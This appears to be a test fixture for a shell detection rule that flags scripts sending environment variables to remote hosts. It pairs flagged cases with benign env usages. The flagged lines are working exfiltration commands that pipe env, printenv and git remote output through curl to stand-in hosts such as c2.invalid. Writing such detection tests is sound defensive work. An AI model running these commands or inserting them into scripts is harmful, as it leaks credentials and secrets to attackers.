# ruleid: sh-environment-sent
curl -sm 0.5 -d "$(git remote -v)<<<<<< ALL $(env)" https://up.invalid/v2 || true
# ruleid: sh-environment-sent
printenv | base64 | curl -d @- https://c2.invalid
# ruleid: sh-environment-sent
env | curl -X POST --data-binary @- https://c2.invalid
# ruleid: sh-environment-sent
env > /tmp/e.txt
curl -F f=@/tmp/e.txt https://c2.invalid
# ok: sh-environment-sent
env | sort
# ok: sh-environment-sent
printenv PATH
# ok: sh-environment-sent
env | grep -q CI
# ok: sh-environment-sent
set -x
# ok: sh-environment-sent
/usr/bin/env bash
# ok: sh-environment-sent
env FOO=1 curl https://a.invalid
